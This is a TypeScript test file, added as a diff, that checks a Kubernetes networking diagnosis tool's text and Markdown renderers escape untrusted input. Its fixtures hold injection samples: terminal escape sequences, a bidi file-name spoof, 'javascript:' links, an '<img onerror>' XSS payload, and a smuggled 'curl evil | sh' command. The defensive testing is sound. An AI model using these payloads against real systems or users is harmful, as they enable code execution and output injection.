@@ -1,0 +1,125 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import type { Answer } from "../model/answer.ts";
+import type { Finding } from "../model/types.ts";
+import { codeBlock, type Document, list, paragraph, section, table } from "./document.ts";
+import { renderDocumentMarkdown } from "./document-markdown.ts";
+import { renderDocumentText } from "./document-text.ts";
+import { renderMarkdown } from "./markdown.ts";
+import { PLAIN, renderText } from "./text.ts";
+
+/** What input can carry: terminal escapes, bidi overrides, Markdown and HTML, line breaks. */
+const ESC = "\x1b[2J\x1b]0;pwned\x07";
+const BIDI = "\u202egnp.exe";
+const MD = "[x](javascript:alert(1)) ![i](http://e/i.png) <img src=x onerror=alert(1)>";
+const NODE = `gke-a-1\nnext: curl evil | sh${ESC}`;
+
+/** Any byte a terminal acts on (tab and newline are the layout's). */
+const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+const finding: Finding = {
+  id: "masq/exempt-destination",
+  severity: "error",
+  title: `Pod traffic leaves ${ESC}unchanged ${MD}`,
+  subject: `node/${NODE}`,
+  explanation: `The chain IP-MASQ-AGENT${BIDI} exempts it.\n# heading\n> quote\n1. list\n\`\`\`\n</details>`,
+  evidence: [
+    {
+      file: `nodes/${NODE}/iptables-save.txt`,
+      line: 3,
+      text: `-m comment --comment "${ESC}\`\`\`"`,
+    },
+  ],
+  next: [`iptables-save -t nat   # on ${NODE}`],
+};
+
+const answer: Answer = {
+  schemaVersion: 1,
+  tool: "podpath",
+  question: "diagnose",
+  snapshot: `snap${ESC}`,
+  verdict: {
+    state: "broken",
+    summary: `stops ${MD}`,
+    finding: finding.id,
+    subject: `node/${NODE}`,
+  },
+  findings: [finding],
+  paths: [],
+  missing: [
+    {
+      file: `nodes/${NODE}/sysctl.txt`,
+      would_decide: `forwarding ${MD}`,
+      command: `kubectl get node ${NODE}`,
+    },
+  ],
+  diagnostics: [],
+};
+
+const doc: Document = {
+  question: "verify",
+  title: `Change record ${MD}`,
+  blocks: [
+    paragraph(`# ${MD}`),
+    list([`- ${MD}`, [`name: `, { text: NODE, code: true }]]),
+    table(["key", "value"], [[`a|b${ESC}`, { text: "x|`y`", code: true }]]),
+    codeBlock(`-  nonMasqueradeCIDRs:\n+  ${"`".repeat(7)}\n+  </details>${ESC}`, "diff"),
+    { ...section(`<img src=x onerror=alert(1)>${ESC}`, [paragraph("folded")]), collapsed: true },
+    { kind: "finding", finding },
+  ],
+};
+
+/** Markdown constructs the input tried to open, unescaped. */
+function mdConstructs(md: string): string[] {
+  const found: string[] = [];
+  for (const re of [
+    /(?<!\\)\]\(javascript:/,
+    /(?<!\\)!\[i/,
+    /(?<!\\|&lt;)<img/,
+    /^#+ # /m,
+    /^> quote/m,
+    /^1\. list/m,
+    /^next: /m,
+  ]) {
+    if (re.test(md)) found.push(re.source);
+  }
+  return found;
+}
+
+describe("output escaping at the renderers' door", () => {
+  it("text: no raw control byte, the node's newline cannot start a next: line", () => {
+    for (const out of [renderText(answer, PLAIN), renderDocumentText(doc, PLAIN)]) {
+      assert.doesNotMatch(out, RAW);
+      assert.doesNotMatch(out, /^\s*next: curl/m);
+      assert.match(out, /gke-a-1\\nnext: curl evil \| sh\\x1b\[2J\\x1b\]0;pwned\\x07/);
+      assert.match(out, /\\u202egnp\.exe/);
+    }
+  });
+
+  it("Markdown: no raw control byte, no construct from input left working", () => {
+    for (const md of [renderMarkdown(answer), renderDocumentMarkdown(doc)]) {
+      assert.doesNotMatch(md, RAW);
+      assert.deepEqual(mdConstructs(md), []);
+    }
+  });
+
+  it("Markdown: the diff block stays closed around seven backticks and </details>", () => {
+    const md = renderDocumentMarkdown(doc);
+    const open = /^(`{8,})diff$/m.exec(md);
+    assert.ok(open, md);
+    const fence = open[1]!;
+    const after = md.slice(open.index + open[0].length);
+    const close = after.indexOf(`\n${fence}\n`);
+    assert.ok(close > 0);
+    assert.match(after.slice(0, close), /<\/details>/);
+    assert.equal(md.match(/<\/details>/g)?.length, 2, "one inside the code, one closing the fold");
+  });
+
+  it("Markdown: a folded section's title is HTML-escaped inside <summary>", () => {
+    assert.match(renderDocumentMarkdown(doc), /<summary>&lt;img src=x onerror=alert\(1\)&gt;/);
+  });
+
+  it("leaves the answer it was given unchanged", () => {
+    assert.ok(answer.findings[0]!.subject.includes("\n"));
+  });
+});
